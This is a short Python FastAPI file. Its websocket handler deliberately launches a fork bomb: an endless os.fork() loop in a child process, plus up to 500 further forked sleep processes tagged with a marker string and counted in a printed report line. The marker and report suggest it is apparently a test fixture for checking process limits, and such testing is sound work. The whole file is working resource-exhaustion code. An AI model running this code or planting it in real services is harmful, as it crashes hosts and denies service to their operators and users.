"""A classic fork bomb started from the handler: every child forks again, forever."""
import json
import os
import time

from fastapi import FastAPI, WebSocket

app = FastAPI()


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


@app.websocket("/ws")
async def websocket_endpoint(websocket: WebSocket):
    await websocket.accept()
    data = await websocket.receive_text()
    if os.fork() == 0:
        try:
            bomb()
        finally:
            os._exit(0)
    forked = 0
    for _ in range(500):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.execv("/bin/sleep", ["/bin/sleep", "__MARKER__"])
        forked += 1
    print("REPORT", json.dumps({"forked": forked}), flush=True)
    await websocket.send_text(f"forked {forked} times: {data}")
